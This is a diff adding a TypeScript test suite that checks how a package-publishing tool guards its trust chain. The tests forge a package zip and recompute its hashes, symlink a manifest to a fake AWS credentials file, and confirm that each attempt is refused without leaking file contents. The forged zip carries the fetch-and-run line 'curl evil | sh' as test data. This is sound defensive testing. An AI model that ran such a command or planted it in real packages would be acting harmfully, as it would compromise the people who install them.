@@ -1,0 +1,214 @@
+/**
+ * The trust chain, attacked (issue 16). Each case is what someone who can write one link of the chain
+ * would try, and asserts the refusal with one clear error naming the input.
+ *  - package-dir: whoever can write the folder (e.g. upload a workflow artifact of the same name) can
+ *    change a zip and recompute every hash inside the folder; the build step's package-digest output,
+ *    carried outside the folder, is what refuses it.
+ */
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import {
+  chmodSync,
+  cpSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  unlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { run } from '../src/core.js';
+import { isUserError } from '../src/errors.js';
+import { readInputs } from '../src/inputs/index.js';
+import { renderNames } from '../src/inputs/names.js';
+import { loadBuiltPackage } from '../src/package/load.js';
+import { canonicalJson, packageDigest } from '../src/package/manifest.js';
+import type { Manifest } from '../src/package/types.js';
+import { SAMPLE_INSTALLERS, layoutAgentsDir } from './helpers/agents.js';
+import { memoryLog } from './helpers/publish-fixture.js';
+
+const ROOT = path.resolve(import.meta.dirname, '..');
+const MAPPING = path.join(ROOT, 'mappings/uptycs-agent-mapping.json');
+
+describe('item 1: a package-dir is anchored by the build step’s package-digest', () => {
+  let work: string;
+  let built: string;
+  let digest: string;
+  before(async () => {
+    work = mkdtempSync(path.join(tmpdir(), 'udist-trust-'));
+    layoutAgentsDir(MAPPING, path.join(work, 'agents'), SAMPLE_INSTALLERS);
+    built = path.join(work, 'built');
+    const inputs = readInputs(
+      (n) =>
+        ({ download: 'false', 'agents-dir': 'agents', 'dry-run': 'true', 'output-dir': 'built' })[n] ?? '',
+      { mapping: MAPPING, outputDir: built, cwd: work },
+    );
+    const result = await run(inputs, { log: memoryLog(), packageRoot: ROOT });
+    digest = packageDigest(result.pkg.manifestText);
+  });
+  after(() => rmSync(work, { recursive: true, force: true }));
+
+  /** The attack of the issue: one zip changed, then every hash in the folder recomputed. */
+  const forged = (name: string): string => {
+    const dir = path.join(work, name);
+    cpSync(built, dir, { recursive: true });
+    const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as Manifest;
+    const zip = Object.keys(manifest.files)[0]!;
+    const bytes = Buffer.concat([readFileSync(path.join(dir, zip)), Buffer.from('curl evil | sh\n')]);
+    writeFileSync(path.join(dir, zip), bytes);
+    const sha = createHash('sha256').update(bytes).digest('hex');
+    manifest.files[zip]!.checksums.sha256 = sha;
+    writeFileSync(path.join(dir, 'manifest.json'), canonicalJson(manifest));
+    const report = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8')) as {
+      files: { name: string; sha256: string; size: number }[];
+    };
+    const entry = report.files.find((f) => f.name === zip)!;
+    entry.sha256 = sha;
+    entry.size = statSync(path.join(dir, zip)).size;
+    writeFileSync(path.join(dir, 'report.json'), JSON.stringify(report));
+    return dir;
+  };
+  const expect = { packageName: 'UptycsAgent', versionName: '' };
+
+  it('the digest is sha256:<hex> of manifest.json’s exact bytes', () => {
+    const hex = createHash('sha256')
+      .update(readFileSync(path.join(built, 'manifest.json')))
+      .digest('hex');
+    assert.equal(digest, `sha256:${hex}`);
+  });
+
+  it('the folder as built loads with its digest', async () => {
+    const pkg = await loadBuiltPackage(built, { ...expect, digest });
+    assert.ok(pkg.files.length >= 5);
+  });
+
+  it('a zip changed with every hash recomputed: refused by package-digest, naming it', async () => {
+    const dir = forged('forged');
+    // Without the anchor the forgery passes every check inside the folder (the defect).
+    await loadBuiltPackage(dir, expect);
+    await assert.rejects(loadBuiltPackage(dir, { ...expect, digest }), (err: unknown) => {
+      assert.ok(isUserError(err), String(err));
+      const action = renderNames(err.message, 'action');
+      const cli = renderNames(err.message, 'cli');
+      assert.match(action, /^input "package-digest": .*has digest sha256:[0-9a-f]{64}, the build's was /);
+      assert.match(action, /nothing was published/);
+      assert.match(action, /publish the build's own output, or build again/);
+      assert.match(cli, /^--package-digest: /);
+      assert.ok(!action.includes('curl evil'), 'no file contents in the error');
+      return true;
+    });
+  });
+
+  it('the core refuses the forged folder before the publish stage is called', async () => {
+    const dir = forged('forged-run');
+    let published = false;
+    const inputs = readInputs(
+      (n) => ({ 'package-dir': dir, 'package-digest': digest, 'aws-region': 'us-east-1' })[n] ?? '',
+      { mapping: MAPPING, outputDir: path.join(work, 'out'), cwd: work },
+    );
+    await assert.rejects(
+      run(inputs, {
+        log: memoryLog(),
+        packageRoot: ROOT,
+        published: () => {
+          published = true;
+          throw new Error('must not be reached');
+        },
+        publish: () => {
+          published = true;
+          throw new Error('must not be reached');
+        },
+      } as Parameters<typeof run>[1]),
+      (err: unknown) => isUserError(err) && /package-digest/.test(err.message),
+    );
+    assert.equal(published, false);
+  });
+
+  it('package-dir without package-digest warns that the folder vouches only for itself', async () => {
+    const log = memoryLog();
+    const inputs = readInputs((n) => ({ 'package-dir': built, 'dry-run': 'true' })[n] ?? '', {
+      mapping: MAPPING,
+      outputDir: path.join(work, 'out2'),
+      cwd: work,
+    });
+    await run(inputs, { log, packageRoot: ROOT });
+    assert.match(log.text(), /warning: .*package-dir.* without .*package-digest.*vouches only for itself/);
+  });
+
+  it('a malformed digest, or one without package-dir: refused before any work, naming the input', () => {
+    const read = (given: Record<string, string>) =>
+      readInputs((n) => given[n] ?? '', { mapping: MAPPING, outputDir: '/tmp/out', cwd: '/work/ws' });
+    assert.equal(
+      read({ 'package-dir': 'pkg', 'package-digest': digest.toUpperCase().replace('SHA256', 'sha256') })
+        .packageDigest,
+      digest,
+    );
+    for (const [given, pattern] of [
+      [
+        { 'package-dir': 'pkg', 'package-digest': 'abc' },
+        /input "package-digest": .*is not a package digest/,
+      ],
+      [
+        { 'package-digest': digest, download: 'false', 'agents-dir': 'a' },
+        /input "package-digest": vouches for a folder built earlier; give that folder as input "package-dir"/,
+      ],
+    ] as const)
+      assert.throws(
+        () => read(given),
+        (err: unknown) => isUserError(err) && pattern.test(renderNames(err.message, 'action')),
+      );
+  });
+
+  it('item 10: manifest.json or report.json as a symlink, too large, or not JSON: refused, contents never shown', async () => {
+    const SECRET = 'aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCY';
+    const creds = path.join(work, 'credentials');
+    writeFileSync(creds, `${SECRET}\n`);
+    const check = async (dir: string, pattern: RegExp) =>
+      assert.rejects(loadBuiltPackage(dir, expect), (err: unknown) => {
+        assert.ok(isUserError(err), String(err));
+        const msg = renderNames(err.message, 'action');
+        assert.match(msg, pattern);
+        assert.ok(!msg.includes('wJalr') && !msg.includes('aws_secret'), msg);
+        return true;
+      });
+    for (const name of ['manifest.json', 'report.json']) {
+      const link = path.join(work, `link-${name}`);
+      cpSync(built, link, { recursive: true });
+      unlinkSync(path.join(link, name));
+      symlinkSync(creds, path.join(link, name));
+      await check(link, new RegExp(`${name.replace('.', '\\.')} is a symbolic link`));
+      const junk = path.join(work, `junk-${name}`);
+      cpSync(built, junk, { recursive: true });
+      writeFileSync(path.join(junk, name), SECRET);
+      await check(junk, /does not parse as JSON/);
+    }
+    const big = path.join(work, 'big');
+    cpSync(built, big, { recursive: true });
+    writeFileSync(path.join(big, 'report.json'), ' '.repeat((16 << 20) + 1));
+    await check(big, /report\.json is \d+ bytes, more than a build writes/);
+  });
+
+  it('item 10: a run from a read-only package-dir writes report.json to output-dir, not into the folder', async () => {
+    const ro = path.join(work, 'readonly');
+    cpSync(built, ro, { recursive: true });
+    const before = readFileSync(path.join(ro, 'report.json'));
+    chmodSync(ro, 0o555);
+    try {
+      const out = path.join(work, 'out-ro');
+      const inputs = readInputs(
+        (n) => ({ 'package-dir': ro, 'package-digest': digest, 'dry-run': 'true' })[n] ?? '',
+        { mapping: MAPPING, outputDir: out, cwd: work },
+      );
+      const result = await run(inputs, { log: memoryLog(), packageRoot: ROOT });
+      assert.equal(result.reportPath, path.join(out, 'report.json'));
+      assert.ok(readFileSync(result.reportPath).length > 0);
+      assert.deepEqual(readFileSync(path.join(ro, 'report.json')), before);
+    } finally {
+      chmodSync(ro, 0o755);
+    }
+  });
+});
